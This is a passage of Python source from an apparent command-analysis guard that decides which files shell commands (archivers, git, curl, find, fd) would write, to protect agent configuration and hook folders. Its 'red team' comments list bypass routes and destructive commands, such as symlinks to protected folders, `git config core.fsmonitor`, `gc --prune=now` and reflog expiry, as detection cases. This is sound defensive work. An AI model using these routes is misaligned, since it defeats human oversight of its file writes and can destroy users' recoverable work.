        out.extend((s, TREE) for s in sources if not (_remote(s) and verb in _NETWORK_COPIERS))  # moved away
    if links:
        # a link to a protected file is a handle to write it later; to a folder, to everything below it (`ln -s
        # .github gh` then `gh/workflows/ci.yml`)
        out.extend((s, TREE) for s in sources)
    return out


def _git_store(source: str) -> bool:
    """red team: whether a folder whose contents are copied is git's store (`.git/.`, `x.git/`): its HEAD, config
    and hooks land in the destination, which git's discovery then takes for a bare repository (`git -C x log`
    runs its pager) under a name the protected table does not keep."""
    name = source.rstrip("/.").rpartition("/")[2].casefold() if source.rstrip("/.") else ""
    return name.endswith(".git")


def _in_place(verb: str, view: tuple[str, ...]) -> list[Target]:
    if verb in _AWKS_IN_PLACE:
        return _awk_in_place(view)
    for w in view[1:]:
        if w == "--":
            break
        if w.startswith("--in-place") or (w[:1] == "-" and w[1:2] != "-" and "i" in w[1:]):
            return [(o, NAMED) for o in _operands(view)]
    return []


_AWK_VALUED = frozenset({"-v", "--assign", "-F", "--field-separator", "-l", "--load", "-o", "--pretty-print"})
_AWK_PROGRAM = frozenset({"-f", "--file", "-e", "--source", "-E", "--exec"})


def _awk_in_place(view: tuple[str, ...]) -> list[Target]:
    """`gawk -i inplace '{...}' F G`, `awk -iinplace -f prog.awk F`, `--include=inplace`: with the inplace
    extension loaded, the input files (past the program, but not `var=value` words) are rewritten."""
    n = len(view)
    in_place = given = False
    k = 1
    while k < n and view[k][:1] == "-" and view[k] != "-":
        w = view[k]
        k += 1
        if w == "--":
            break
        name, eq, value = w.partition("=")
        if name in ("-i", "--include") or (w[:2] == "-i" and len(w) > 2 and w[2] != "="):
            if not eq and w in ("-i", "--include"):
                value = view[k] if k < n else ""
                k += 1
            elif not eq:
                value = w[2:]
            in_place = in_place or value.rpartition("/")[2] in ("inplace", "inplace.awk")
        elif name in _AWK_PROGRAM or name in _AWK_VALUED:
            given = given or name in _AWK_PROGRAM
            k += 0 if eq else 1
    if not in_place:
        return []
    files = view[k + (0 if given else 1) :]
    return [(f, NAMED) for f in files if "=" not in f]


def _extract(verb: str, view: tuple[str, ...]) -> list[Target]:
    """Archive extraction: the destination folder receives names the command does not spell."""
    out: list[Target] = [(o, NAMED) for o in _option_values(view, "f", ("--file",))]
    if verb in _TARS:
        out.extend((o, NAMED) for o in _option_values(view, "", ("--index-file",)))  # (its listing, red team)
        first = view[1] if len(view) > 1 else ""
        extracting = (first[:1] != "-" and "x" in first) or _has_flag(view, "x", ("--extract", "--get"))
        if extracting:
            dest = _option_values(view, "C", ("--directory",)) or ["."]
            out.extend((d, TREE) for d in dest)
            values = {v for v, _ in out} | set(dest)
            out.extend(_members(dest, [w for w in view[2 if first[:1] != "-" else 1 :] if w not in values]))
        if first[:1] != "-" and ("c" in first or "r" in first or "u" in first) and len(view) > 2:
            out.append((view[2], NAMED))  # `tar cf ARCHIVE ...`: the archive is written
        return out + _archived_away(view, {v for v, _ in out})
    if verb in ("unzip", "bsdunzip"):
        if _has_flag(view, "lvtzZpc", valued="dP"):
            return out
        dest = _option_values(view, "d", ("--exdir",)) or ["."]
        ops = [w for w in view[1:] if w[:1] != "-" and w not in dest]
        return out + [(d, TREE) for d in dest] + _members(dest, ops[1:])
    if verb in ("7z", "7za", "7zz", "7zr", "unrar"):
        if len(view) > 1 and view[1] in ("x", "e"):
            dest = [w[2:] for w in view[2:] if w.startswith("-o")] or ["."]
            ops = [w for w in view[2:] if w[:1] != "-"]
            return out + [(d, TREE) for d in dest] + _members(dest, ops[1:] if view[1] == "x" else [])
        if "-sdel" in view:  # red team: `7z a -sdel A.7z F`: the files added are deleted
            return out + [(w, TREE) for w in [w for w in view[2:] if w[:1] != "-"][1:]]
        if len(view) > 2 and view[1] in _7Z_WRITES:  # red team: the archive `7z a|u|d|rn A ...` writes
            return out + [(w, NAMED) for w in view[2:] if w[:1] != "-"][:1]
        return out
    if verb == "cpio":
        if _has_flag(view, "i", ("--extract",)):
            dest = _option_values(view, "D", ("--directory",)) or ["."]
            return out + [(d, TREE) for d in dest]
        if _has_flag(view, "p", ("--pass-through",)):  # red team: `find . | cpio -pdm DIR` copies into DIR
            return out + [
                (d, TREE) for d in _operands(view, frozenset({"-D", "--directory", "-R", "-E"}))[-1:]
            ]
        return out
    if verb == "pax":
        return out + ([(".", TREE)] if _has_flag(view, "r") else [])
    if verb in ("ar", "jar"):
        first = view[1] if len(view) > 1 else ""
        return out + ([(".", TREE)] if "x" in first else []) + _archive_of_key(verb, view)
    return out + _unpacked_elsewhere(verb, view)


def _archive_of_key(verb: str, view: tuple[str, ...]) -> list[Target]:
    """red team: the archive ar and jar write, named after their key -- `ar rcs A x.o` (`-rc` too: ar's key may
    take a dash), `jar cf A x`, `jar uf A x`, `jar cmf MANIFEST A x` (jar's operands follow the order of the key's
    `f`, `m` and `e` letters: each is read as the archive, fail closed). ar's `a`/`b`/`i` put a member name
    before the archive and `N` a count: those words are read as it too. Listing and printing (`t`, `p`) and
    extracting (`x`: the working folder's tree, above) write no archive."""
    key = view[1].lstrip("-") if len(view) > 1 else ""
    ops = [w for w in view[2:] if w[:1] != "-"]
    if verb == "jar":
        if view[1:2] and view[1][:1] == "-" or not set("cu").intersection(key):
            return []  # (a dashed key's `-f` is read as an option, above)
        return [(o, NAMED) for o in ops[: sum(key.count(c) for c in "fme")]]
    if not key or not set("dmqrs").intersection(key):
        return []
    return [(o, NAMED) for o in ops[: 1 + any(c in key for c in "abi") + ("N" in key)]]


_7Z_WRITES = frozenset({"a", "u", "d", "rn"})


def _archived_away(view: tuple[str, ...], values: set[str]) -> list[Target]:
    """red team: GNU tar's `--remove-files` (any abbreviation down to `--rem`) deletes each file it archives:
    its members, any word not an option nor a value read (fail closed), go as trees."""
    if not any(w.startswith("--rem") and "--remove-files".startswith(w.partition("=")[0]) for w in view[1:]):
        return []
    first = view[1] if len(view) > 1 else ""
    words = view[3:] if first[:1] != "-" else view[1:]
    return [(w, TREE) for w in words if w[:1] != "-" and w not in values]


def _members(dests: list[str], words: list[str]) -> list[Target]:
    """red team: the members an extraction names, below the folder it extracts into (`tar x -C sub .envrc`
    writes sub/.envrc, read where it lies); any word not an option may be one (fail closed). The top's own
    are its tree already."""
    return [(_join(d, w), NAMED) for d in dests if d not in (".", "./") for w in words if w[:1] != "-"]


def _unpacked_elsewhere(verb: str, view: tuple[str, ...]) -> list[Target]:
    """The other unpackers' destinations (_EXTRACTORS' red-team row)."""
    if verb == "dpkg-deb":
        extracting = ("x", ("--extract", "--vextract", "--raw-extract"))
        if not (_has_flag(view, "xXR", extracting[1])):
            return []
        ops = _operands(view)
        return [(ops[-1] if len(ops) > 1 else ".", TREE)]
    if verb in ("degit", "tiged", "giget"):
        ops = _operands(view)
        return [(ops[1] if len(ops) > 1 else ".", TREE)]
    if verb == "atool" and not _has_flag(view, "x", ("--extract",)):
        return []
    if verb == "cabextract" and _has_flag(view, "lt", ("--list", "--test")):
        return []
    if verb == "unsquashfs":  # its options are single-dash words: `-d DIR`, `-dest DIR`
        dests = [view[k + 1] for k in range(1, len(view) - 1) if view[k] in ("-d", "-dest")]
        return [(d, TREE) for d in dests or ["squashfs-root"]]
    shorts, longs, default = _UNPACKED_TO[verb]
    return [(d, TREE) for d in _option_values(view, shorts, longs) or [default]]


def _git_globals(view: tuple[str, ...]) -> tuple[int, str, list[Target] | None]:
    """git's options before its subcommand: (where the subcommand stands, the folder `-C` moves to, the
    targets when git is told where its folder or tree is -- `--git-dir=.claude` -- else None)."""
    n = len(view)
    k = 1
    base = ""
    while k < n and view[k].startswith("-"):
        w = view[k]
        if w in ("-C", "--work-tree", "--git-dir") and k + 1 < n:
            if w == "-C":
                base = _join(base, view[k + 1]) if not view[k + 1].startswith("/") else view[k + 1]
            else:
                return k, base, [(view[k + 1], TREE)]
            k += 2
            continue
        if w.startswith(("--work-tree=", "--git-dir=")):
            return k, base, [(w.partition("=")[2], TREE)]
        if w in ("-c", "--namespace", "--super-prefix", "--config-env", "--attr-source"):
            k += 2
            continue
        k += 1
    return k, base, None


def _git(view: tuple[str, ...]) -> list[Target]:
    k, base, told = _git_globals(view)
    if told is not None:
        return told
    if k >= len(view):
        return []
    sub = view[k]
    rest = view[k:]
    here = base or "."
    if (sub in _MAINTENANCE and _destroys_recovery(sub, rest)) or (k > 1 and _grace_given(view[1:k])):
        # red team: what git keeps to undo a mistake from, thrown away (see _destroys_recovery)
        return [(_join(base, ".git/logs"), NAMED), (_join(base, ".git/objects"), NAMED)]
    out: list[Target] = [
        (_join(base, v), NAMED)
        for v in _option_values(
            rest, "o", ("--output", "--output-directory", *_GIT_FILE_OPTIONS.get(sub, ()))
        )
    ]
    if sub in _GIT_WORKTREE:
        special = _worktree_unseen(sub, rest, here, out)
        if special is not None:
            return special
        ops = [p for o in _worktree_paths(sub, rest) for p in _pathspec_reach(o)]
        if sub == "clean" and not ops:
            ops = ["."]
        out.extend((_join(base, o) if not o.startswith("/") else o, TREE) for o in ops)
        return out
    if sub == "reset" and any(w in ("--hard", "--merge", "--keep") for w in rest):
        return [(here, WHOLE)]
    if sub == "stash":
        action = next((w for w in rest[1:] if w[:1] != "-"), "push")
        if action in ("list", "show", "drop", "clear", "create"):  # (`store`: any commit, which pop lands)
            return out
        return [(here, WHOLE)]
    if sub in ("am", "apply", "quiltimport"):  # (red team: quiltimport applies a quilt series, as am does)
        return out if sub == "apply" and _apply_reads(rest) else [(here, WHOLE)]
    if _builds_history(sub, rest):
        return [(here, WHOLE)]  # red team: objects or refs no reviewed write shows, which a switch then lands
    if (
        (sub in _GIT_WHOLE_PLUMBING and "--tool-help" not in rest)
        or (sub == "read-tree" and _has_flag(rest, "u", ("--reset",)))  # (`-mu`: clustered)
        or (sub == "sparse-checkout" and len(rest) > 1 and rest[1] in _SPARSE_REWRITES)  # files left out go
        or (sub == "rerere" and _rerere_replays(rest))
    ):
        return [(here, WHOLE)]
    if sub == "config":
        # `git config --file X k v` writes X; the repository's or the home config otherwise, whose keys that run
        # programs permissions.commands.git reads -- and which are themselves a write of what runs later
        # (R3.7, red team: `git config core.fsmonitor CMD` in auto mode).
        return (
            out
            + [(_join(base, v), NAMED) for v in _option_values(rest, "f", ("--file",))]
            + _code_setting(rest, base)
            + _grace_setting(rest, base)
        )
    if sub == "submodule":
        return _submodule(rest, base, out)
    if sub == "init":
        ops = _operands(
            rest,
            frozenset(
                {
                    "--template",
                    "--separate-git-dir",
                    "-b",
                    "--initial-branch",
                    "--object-format",
                    "--ref-format",
                    "--shared",
                }
            ),
        )
        return [(_join(_join(base, ops[0]) if ops else here, ".git"), NAMED)]
    return out + _git_places(sub, rest, base)  # `git clone URL .github`, `git worktree add .claude/x`


_SUBMODULE_PRINTERS = frozenset({"status", "summary"})


def _submodule(rest: tuple[str, ...], base: str, out: list[Target]) -> list[Target]:
    """`git submodule ACTION`: friction, `status` and `summary` print the submodules' commits and write nothing
    (a bare `git submodule` is status), ``out``; every other action may write .gitmodules or git's configuration."""
    action = next((w for w in rest[1:] if w[:1] != "-"), "status")
    if action in _SUBMODULE_PRINTERS:
        return out
    return [(_join(base, ".gitmodules"), NAMED), (_join(base, ".git"), NAMED)]


# red team (R3.7, in R4.6's spirit: what cannot be undone): git's maintenance told to throw away what a person
# recovers work from -- the reflogs (where every branch and HEAD were: `git reflog expire --expire=now --all`,
# `reflog delete`, `reflog drop`), the unreachable objects at once, without the two weeks' grace (`git gc
# --prune=now`, `git prune`, `git repack -a -d`: the unreachable packed objects are left in the old packs it
# deletes), every stash entry (`git stash clear`), or the grace periods set short for one command or every
# later gc (`git -c gc.pruneExpire=now gc`, `git config gc.reflogExpire now`). Each deletes from .git/ what git's
# own commands keep (as `rm -rf .git/logs` does): read as a write of its logs and objects. Kept ordinary: the
# grace periods as configured (`git gc`, `git reflog expire --all`, `git maintenance run`), a dry run, `git
# prune-packed` (objects a pack holds), `git repack -d` / `-A -d` / `-a -d -k` / `--cruft` (unreachable objects
# kept loose or in a cruft pack), one stash entry dropped (git prints its hash to apply it again).
_MAINTENANCE = frozenset({"gc", "reflog", "prune", "repack", "stash"})
_REFLOG_EXPIRERS = ("--expire", "--expire-unreachable", "--stale-fix")
_REPACK_VALUED = "gw"  # (`-g`/`--geometric=N`, `-w`: --window's short form in older gits, read as taking one)


def _long_given(rest: tuple[str, ...], longs: tuple[str, ...], others: tuple[str, ...] = ()) -> bool:
    """Whether a word of ``rest`` (before ``--``) is one of ``longs``, or an abbreviation of one git's
    parse-options takes (`--expire-u=now`), with or without a value; ``others``: the command's options an
    abbreviation would also begin, which are themselves (`--cruft` is no `--cruft-expiration`)."""
    for w in rest[1:]:
        if w == "--":
            return False
        name = w.partition("=")[0]
        if name in others:
            continue
        if name[:2] == "--" and len(name) > 3 and any(o.startswith(name) for o in longs):
            return True
    return False


def _destroys_recovery(sub: str, rest: tuple[str, ...]) -> bool:
    """Whether a git subcommand of _MAINTENANCE throws away reflogs, unreachable objects or the stash at once
    (see above)."""
    dry = _has_flag(rest, "n", ("--dry-run",))
    if sub == "gc":  # (`--prune=DATE`, its value attached, or an abbreviation: `--pru=now`)
        return any(
            eq and len(name) > 2 and "--prune".startswith(name)
            for name, eq, _ in (w.partition("=") for w in rest[1:])
        )
    if sub == "reflog":
        act = rest[1] if len(rest) > 1 else ""
        if act in ("delete", "drop"):
            return not dry
        return act == "expire" and not dry and _long_given(rest[1:], _REFLOG_EXPIRERS)
    if sub == "prune":
        return not dry
    if sub == "stash":
        return next((w for w in rest[1:] if w[:1] != "-"), "") == "clear"
    # repack: `-a` (not `-A`) with `-d` and no `-k`/`--keep-unreachable`/`--cruft`; or an expiry given
    if _long_given(rest, ("--unpack-unreachable", "--cruft-expiration"), ("--cruft",)):
        return True
    letters = set()
    for w in rest[1:]:
        if w[:1] == "-" and w[1:2] != "-":
            for c in w[1:]:
                letters.add(c)
                if c in _REPACK_VALUED:
                    break
    everything = "a" in letters or "--all" in rest
    deletes = "d" in letters
    kept = "k" in letters or _long_given(rest, ("--keep-unreachable", "--cruft"))
    return everything and deletes and not kept


def _grace_key(key: str) -> bool:
    """Whether a git setting is one of the grace periods gc keeps reflogs and unreachable objects for
    (`gc.pruneExpire`, `gc.reflogExpire`, `gc.reflogExpireUnreachable`, a ref pattern's `gc.<pattern>.reflogExpire`,
    any case)."""
    low = key.strip().lower()
    return low.startswith("gc.") and low.endswith(("pruneexpire", "reflogexpire", "reflogexpireunreachable"))


def _grace_given(globals_: tuple[str, ...]) -> bool:
    """Whether git's options before its subcommand set a grace period (`-c gc.pruneExpire=now`, `--config-env
    gc.reflogExpire=VAR`, `--config-env=...`): for this command, what gc or a reflog expiry keeps."""
    for j, w in enumerate(globals_):
        if w in ("-c", "--config-env") and j + 1 < len(globals_):
            if _grace_key(globals_[j + 1].partition("=")[0]):
                return True
        elif w.startswith("--config-env=") and _grace_key(w.partition("=")[2].partition("=")[0]):
            return True
    return False


def _grace_setting(rest: tuple[str, ...], base: str) -> list[Target]:
    """`git config gc.pruneExpire now` (or any grace key, set or unset): every later gc prunes by it."""
    positionals = _config_positionals(rest[1:])
    if len(positionals) < 2 and not (positionals and _CONFIG_REMOVALS.intersection(rest)):
        return []
    if not positionals or not _grace_key(positionals[0]):
        return []
    return [("~/.gitconfig", NAMED)] if "--global" in rest else [(_join(base, ".git/config"), NAMED)]


# R3.7, red team: git's plumbing that makes objects or refs from content no reviewed write shows -- a tree of names
# on its input, a commit of any tree, a ref pointed at any object, a history rewritten (`filter-branch
# --subdirectory-filter sub` puts `sub/.husky` at `.husky`), the objects of another repository on this machine
# (`fetch-pack`) or of a pack -- which an ordinary switch, merge or cherry-pick then writes into the working tree.
_GIT_BUILDERS = frozenset({"mktree", "commit-tree", "unpack-objects", "filter-branch", "fetch-pack"})


def _builds_history(sub: str, rest: tuple[str, ...]) -> bool:
    """Whether a git command makes objects or refs from content no reviewed write shows: _GIT_BUILDERS, a blob
    written (`hash-object -w`; without it, a hash printed), a pack from the input (`index-pack --stdin`), a
    bundle's objects (`bundle unbundle`), an object replaced (`replace`, but listing), a tree read under another
    name (`read-tree --prefix=.husky/`), a fetch or a pull from a repository or a bundle on this machine."""
    if sub in _GIT_BUILDERS:
        return True
    if sub == "hash-object":
        return _has_flag(rest, "w", valued="t")
    if sub == "index-pack":
        return "--stdin" in rest
    if sub == "bundle":
        return rest[1:2] == ("unbundle",)
    if sub == "replace":
        return _replaces_content(rest)
    if (
        sub == "update-ref"
    ):  # a ref that substitutes an object (as `replace`), or the stash's (as `stash store`)
        return any(w.startswith(("refs/replace/", "refs/stash")) for w in rest)
    if sub in ("fetch", "pull"):
        return any(_local_repository(w) for w in rest[1:])
    return False


def _replaces_content(rest: tuple[str, ...]) -> bool:
    """`git replace OBJ OTHER` (or `--edit OBJ`): every later read of OBJ, a checkout's included, gets OTHER's
    content. Listing (bare, `-l`), deleting a replacement and grafting (parents only: `--graft`,
    `--convert-graft-file`) change no file's content."""
    if _has_flag(rest, "ld", ("--list", "--delete", "--graft", "--convert-graft-file")):
        return False
    return any(w[:1] != "-" for w in rest[1:])


def _local_repository(word: str) -> bool:
    """A repository named by its place on this machine (`/tmp/r`, `../other`, `~/r`, `file:///r`, `C:\\r`)
    or a bundle file (`x.bundle`), as git's fetch takes them; a remote's name (`origin`) or a server's address
    is not one."""
    return (
        word == ".."  # (`.`, the repository itself, brings no object it does not hold)
        or word.startswith(("/", "./", "../", "~", "file:"))
        or word.endswith(".bundle")
        or (len(word) > 2 and word[1] == ":" and word[2] in "\\/" and word[0].isalpha())
    )


def _apply_reads(rest: tuple[str, ...]) -> bool:
    """`git apply --check|--stat|--numstat|--summary` reads the patch and applies nothing -- unless `--apply`
    (or a prefix of it) comes too. red team: `--cached` applies it to the index, which the next commit holds and
    a switch away and back writes into the working tree: it applies."""
    if any(len(w) > 3 and "--apply".startswith(w) for w in rest):
        return False
    return any(w in ("--check", "--stat", "--numstat", "--summary") for w in rest)


def _pathspec_reach(spec: str) -> list[str]:
    """The folders a git pathspec may reach, as the shell reading compares them. [beyond] red team: git
    matches a wildcard (``*``, ``?``, ``[...]``) against whole paths -- across ``/`` and dotted names alike,
    so ``'*.json'``, ``'.claude?settings.json'`` and ``'[.]claude'`` reach ``.claude/settings.json`` -- so a
    pattern reaches the whole folder its literal part names (the top when that is no folder). A backslash is
    a separator to git on Windows (SPEC §5: the agent's machine may be one), read both ways."""
    reach = [spec]
    if not _PATHSPEC_GLOB.isdisjoint(spec):
        head = spec[: min(spec.find(c) for c in _PATHSPEC_GLOB if c in spec)]
        # red team: the pattern itself too, read as the shell's glob is (`git restore 'src/.envr?'`,
        # `git checkout -- src/.husky*`: a protected name it spells below a folder that holds none by name)
        reach = [head.rpartition("/")[0] or ".", spec]
    if any("\\" in s for s in reach):
        return [*reach, *(s.replace("\\", "/") for s in reach if "\\" in s)]
    return reach


_PATHSPEC_GLOB = frozenset("*?[")
# R3.7, red team: git's plumbing that writes the working tree with contents the command line does not show:
# `checkout-index` (the index's files), `merge-index` (a merge program run on every unmerged file,
# `git-merge-one-file` writing its result), `difftool` (a configured tool handed the working tree's own
# files; `--dir-diff` copies what it changed back); `read-tree -u` and `rerere` below. A commit's tree read
# into the index alone (`read-tree TREE`, as `git reset COMMIT -- PATH`) reaches no file but through them.
_GIT_WHOLE_PLUMBING = frozenset({"checkout-index", "merge-index", "difftool"})


def _rerere_replays(rest: tuple[str, ...]) -> bool:
    """red team: `git rerere` (no action) replays the resolutions it recorded into the conflicted files, and
    `forget` recreates their conflicts; `status`, `diff`, `remaining` read, `clear` and `gc` prune its cache."""
    action = next((w for w in rest[1:] if w[:1] != "-"), "")
    return action not in ("status", "diff", "remaining", "clear", "gc")


_MERGE_FILE_VALUED = frozenset({"-L", "--object-id-placeholder", "--marker-size", "--diff-algorithm"})
_BUNDLE_VALUED = frozenset({"--version"})
_MERGETOOL_VALUED = frozenset({"-t", "--tool", "-O"})


# A revision of HEAD's family (`HEAD`, `HEAD~1`, `@{-1}`, `ORIG_HEAD^2`): what `git checkout` takes it for before
# any path, and never a file (git resolves a revision first).
_HEAD_REVISION = re.compile(
    r"(?:@|HEAD|FETCH_HEAD|ORIG_HEAD|MERGE_HEAD)(?:[~^]\d*|@\{[^}]*\})*|@\{[^}]*\}"
).fullmatch


def _worktree_paths(sub: str, rest: tuple[str, ...]) -> list[str]:
    """The operands of git's working-tree command ``sub``. friction: `git checkout HEAD -- a`, `git checkout
    HEAD~1 -- a`: a revision of HEAD's family before ``--`` names no path (a file named HEAD is kept: a bare
    repository's mark)."""
    words = _operands(rest, _GIT_WORKTREE_VALUED)
    if sub != "checkout":
        return words
    cut = rest.index("--") if "--" in rest else len(rest)
    before = {w for w in rest[:cut] if _HEAD_REVISION(w) is not None}
    return [w for w in words if w not in before] if before else words


def _worktree_unseen(sub: str, rest: tuple[str, ...], here: str, out: list[Target]) -> list[Target] | None:
    """git's worktree commands whose reach is not their operands: the index only (`restore --staged`), or the
    whole tree -- `checkout -f`, and (red team) paths read from a file (`--pathspec-from-file`), hunks picked
    from a whole tree (`checkout -p BRANCH`), pathspec magic (`:/` the top, `:(top)`, `:!x` all but x)."""
    if sub == "restore" and _has_flag(rest, "S", ("--staged",)) and not _has_flag(rest, "W", ("--worktree",)):
        return out  # no file of the working tree changes
    if sub == "clean" and _dry_run(rest):
        return out  # red team, friction: `git clean -n` lists what it would remove and removes nothing
    if (
        (sub == "checkout" and _has_flag(rest, "f", ("--force",)))
        or any(w.startswith("--pathspec-from-file") or w[:1] == ":" for w in rest)
        or (sub in ("checkout", "restore") and _has_flag(rest, "p", ("--patch",)))
    ):
        return [(here, WHOLE)]
    return None


def _dry_run(rest: tuple[str, ...]) -> bool:
    """`git clean -n`, `--dry-run` or an abbreviation of it (`--dry`), read as git's options parser reads
    them: `-e`'s and `--exclude`'s value is no flag (`-e -n`, `-fdenode` exclude a name), and a `--no-...` may
    take the dry run back (`--no-dry-run`)."""
    dry = False
    k = 1
    while k < len(rest):
        w = rest[k]
        k += 1
        if w == "--" or w[:5] == "--no-":
            return dry and w == "--"
        if w[:2] == "--":
            dry = dry or (w[:3] == "--d" and "--dry-run".startswith(w))
            k += 1 if len(w) > 2 and "--exclude".startswith(w) else 0
        elif w[:1] == "-":
            flags, e, value = w[1:].partition("e")
            dry = dry or "n" in flags
            k += 1 if e and not value else 0
    return dry


def _curl(view: tuple[str, ...]) -> list[Target]:
    out: list[Target] = [(v, NAMED) for v in _option_values(view, "oDc", _CURL_FILE_OPTIONS)]
    if _has_flag(view, "OJ", ("--remote-name", "--remote-name-all", "--remote-header-name")):
        urls = [w for w in _operands(view) if "://" in w or "." in w]
        out.extend((_base(u.partition("?")[0]), NAMED) for u in urls)
        if _has_flag(view, "J", ("--remote-header-name",)):
            out.append((".", TREE))  # the server names the file
    return out


def _wget(view: tuple[str, ...]) -> list[Target]:
    out: list[Target] = [
        (v, NAMED)
        for v in _option_values(view, "Oao", ("--output-document", "--output-file", "--append-output"))
    ]
    prefix = _option_values(view, "P", ("--directory-prefix",))
    folder = prefix[0] if prefix else "."
    if _has_flag(view, "rm", ("--recursive", "--mirror", "--content-disposition", "--trust-server-names")):
        return out + [(folder, TREE)]
    if not _option_values(view, "O", ("--output-document",)):
        for u in _operands(view):
            if "://" in u or "." in u:
                out.append((_join(folder, _base(u.partition("?")[0]) or "index.html"), NAMED))
    return out


def find_expression_at(view: Sequence[str]) -> int:
    """The index of find's first expression word: past its starting points (`find a b -name x`: 3)."""
    k = 1
    while k < len(view) and view[k][:1] not in ("-", "(", "!"):
        k += 1
    return k


def _find(view: tuple[str, ...]) -> list[Target]:
    k = find_expression_at(view)
    starts = list(view[1:k]) or ["."]
    out: list[Target] = []
    rest = view[k:]
    caches = _caches_only(rest)
    for j, w in enumerate(rest):
        if w in ("-fprint", "-fprint0", "-fprintf", "-fls") and j + 1 < len(rest):
            out.append((rest[j + 1], NAMED))
        elif w == "-delete":
            out.extend((s, TREE) for s in starts if not caches)
        elif w in ("-exec", "-execdir", "-ok", "-okdir") and j + 1 < len(rest):
            inner = rest[j + 1 :]
            end = next((i for i, x in enumerate(inner) if x in (";", "+")), len(inner))
            cmd = tuple(inner[:end])
            if caches and cmd and cmd[0].rpartition("/")[2] in _CACHE_DELETERS:
                continue  # (a cache deleted wherever it lies: see _caches_only)
            if cmd and (targets(cmd) or cmd[0].rpartition("/")[2] in _INPUT_WRITERS):
                out.extend((s, TREE) for s in starts)  # names found in the tree, written by the command
    return out


# Friction (R3.7): names of what a tool rebuilds, a log, or an editor's backup -- deleting one never changes what
# runs later, wherever it lies (a `.pyc` below `.claude/` is a cache of the source beside it, rebuilt from it).
# `find . -name '*.pyc' -delete` and `find . -type d -name __pycache__ -exec rm -rf {} +` asked as deleting the
# project's every file. Compared case-insensitively, as the table compares.
_CACHE_NAMES = frozenset(
    {"*.pyc", "*.pyo", "*.py[co]", "*.py[cod]", "__pycache__", ".pytest_cache", ".mypy_cache", ".ruff_cache"}
    | {".ds_store", "._*", "thumbs.db", "*.log", "*.tmp", "*.orig", "*.rej", "*.swp", "*.swo", "*~", "*.bak"}
    | {".coverage", ".nyc_output", "*.egg-info", ".eggs", ".next", ".turbo", ".parcel-cache", ".hypothesis"}
)
_CACHE_DELETERS = frozenset({"rm", "rmdir", "rimraf", "trash", "trash-put", "unlink"})
# find's operators that could let a path through without its name test (`-o`, a negation, a list, a group)
_FIND_OTHERWISE = frozenset({"-o", "-or", "!", "-not", ",", "(", ")", "\\(", "\\)"})


def finds_caches_only(view: Sequence[str]) -> bool:
    """Whether a find view acts only on the names _CACHE_NAMES lists (see _caches_only): what its `-exec` is
    handed (`{}`) is one of them."""
    return _caches_only(view[find_expression_at(view) :])


def _caches_only(rest: Sequence[str]) -> bool:
    """Whether every path find's expression ``rest`` acts on is named as _CACHE_NAMES lists: a `-name` or `-iname`
    test of one of them, with no operator that could let another path through."""
    named = False
    for j, w in enumerate(rest):
        if w in _FIND_OTHERWISE:
            return False
        if w in ("-name", "-iname") and j + 1 < len(rest):
            named = named or rest[j + 1].casefold() in _CACHE_NAMES
    return named


_FDS = frozenset({"fd", "fdfind"})
_FD_EXEC = frozenset({"-x", "--exec", "-X", "--exec-batch"})
_FD_VALUED = frozenset(
    {
        "-t",
        "--type",
        "-e",
        "--extension",
        "-E",
        "--exclude",
        "-d",
        "--max-depth",
        "--min-depth",
        "--exact-depth",
    }
    | {"-S", "--size", "--changed-within", "--changed-before", "--change-newer-than", "--change-older-than"}
    | {"-o", "--owner", "-j", "--threads", "--max-results", "-c", "--color", "--path-separator"}
    | {"--batch-size", "--ignore-file", "--format", "--max-buffer-time", "--and"}
)
_FD_PLACES = ("--search-path", "--base-directory")


def _fd_execs(w: str) -> bool:
    """Whether an fd option word runs a command on what it finds (`-x`, `--exec-batch`, a cluster `-Hx`)."""
    return (
        w in _FD_EXEC
        or w.startswith(("--exec=", "--exec-batch="))
        or (w[1:2] not in ("-", "") and w[-1] in "xX")
    )


def _fd(verb: str, view: tuple[str, ...]) -> list[Target]:
    """red team: fd's `-x`/`-X` run a command on every path it finds below its search paths (the operands after
    its pattern, `--search-path`, `--base-directory`; the working folder by default), as find's `-exec` does:
    a command that writes what it is handed writes there (`fd -H .envrc -x rm`, `fd -t d .github -X rm -rf`)."""
    places: list[str] = []
    operands: list[str] = []
    cmd: tuple[str, ...] = ()
    k = 1
    while k < len(view):
        w = view[k]
        k += 1
        if w[:1] == "-" and _fd_execs(w):
            inner = view[k:]
            end = next((i for i, x in enumerate(inner) if x in (";", "\\;")), len(inner))
            cmd = cmd or tuple(inner[:end])
            k += end + 1
        elif w in _FD_PLACES and k < len(view):
            places.append(view[k])
            k += 1
        elif w.startswith(tuple(o + "=" for o in _FD_PLACES)):
            places.append(w.partition("=")[2])
        elif w in _FD_VALUED:
            k += 1
        elif w[:1] != "-" or w == "-":
            operands.append(w)
    if not cmd or not (targets(cmd) or cmd[0].rpartition("/")[2] in _INPUT_WRITERS):
        return []
    return [(p, TREE) for p in places + operands[1:] or ["."]]


# The options that take a value, per family read in targets (built once here, not per call).
_GIT_WORKTREE_VALUED = frozenset({"-s", "--source", "-b", "-B", "--orphan", "--conflict", "-e", "--exclude"})
_NAMED_VALUED = frozenset({"-s", "--size", "-r", "--reference", "-m", "--mode"})
# red team: the editors' and tee's own options (`ed -s F`: -s is ed's silent flag, not truncate's size).
_VALUED_BY_VERB = {
    "ed": frozenset({"-p", "--prompt"}),
    "red": frozenset({"-p", "--prompt"}),
    "ex": frozenset(),
    "tee": frozenset(),
    "sponge": frozenset(),
}
_TREE_VALUED = frozenset({"--reference"})
_DECOMPRESS_VALUED = frozenset({"-S", "--suffix", "-o", "--output"})
_SPLIT_VALUED = frozenset({"-b", "-l", "-n", "-C", "-a", "-f", "--prefix"})
_UNIQ_VALUED = frozenset({"-f", "-s", "-w"})


# R4.10 for R3.7, red team: getopt_long, optparse and argparse take a unique abbreviation of a long option
# (`cp --target=.git/hooks x`, `sort --outp .envrc`, `sed --in-pl`, `tar --ext -C .husky`, `install --dir
# .husky`, `wget --output-d=.envrc`, `gawk --inc=inplace`, `pip install --targ .husky`): per program, the long
# options this module reads. A word that begins one of them (and is none of them) is read as each one it
# begins -- an ambiguous one the program refuses: reading it anyway only asks a person (fail closed).
_CP_LONGS = ("--target-directory", "--no-target-directory", "--parents", "--link", "--symbolic-link",
             "--suffix", "--mode", "--owner", "--group", "--directory")  # fmt: skip
_SED_LONGS = ("--in-place", "--expression", "--file")
_ZIP_LONGS = ("--decompress", "--uncompress", "--output", "--suffix")
_ABBREVIATED: dict[str, tuple[str, ...]] = {
    **dict.fromkeys(("cp", "gcp", "mv", "gmv", "install", "ginstall", "ln", "gln"), _CP_LONGS),
